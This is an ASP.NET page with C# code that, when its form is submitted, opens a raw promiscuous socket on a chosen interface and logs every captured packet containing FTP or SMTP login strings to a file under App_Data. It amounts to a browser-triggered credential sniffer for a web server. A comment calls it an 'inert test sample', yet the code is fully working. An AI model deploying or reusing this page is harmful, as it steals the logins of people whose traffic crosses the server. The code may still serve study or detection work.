<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Text" %>
<%@ Import Namespace="System.Threading" %>
<script runat="server">
    // inert test sample: captures every IP packet on the chosen interface and keeps the ones that
    // carry FTP or mail logins
    static Socket capture;
    static Thread worker;
    static string logPath;

    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.Form["bind"] == null) return;
        logPath = Server.MapPath("~/App_Data/cap_" + DateTime.Now.Ticks + ".log");
        string bindTo = Request.Form["bind"];
        worker = new Thread(delegate () { Listen(bindTo); });
        worker.IsBackground = true;
        worker.Start();
        Response.Write("listening on " + Server.HtmlEncode(bindTo));
    }

    static void Listen(string address)
    {
        capture = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);
        capture.Bind(new IPEndPoint(IPAddress.Parse(address), 0));
        capture.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
        capture.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, new byte[4]);
        byte[] buffer = new byte[4096];
        while (true)
        {
            int n = capture.Receive(buffer);
            string text = Encoding.ASCII.GetString(buffer, 0, n);
            if (text.Contains("USER ") || text.Contains("PASS ") || text.Contains("AUTH LOGIN"))
            {
                File.AppendAllText(logPath, text + Environment.NewLine);
            }
        }
    }
</script>
<form method="post" runat="server"><input name="bind" /><input type="submit" value="start" /></form>
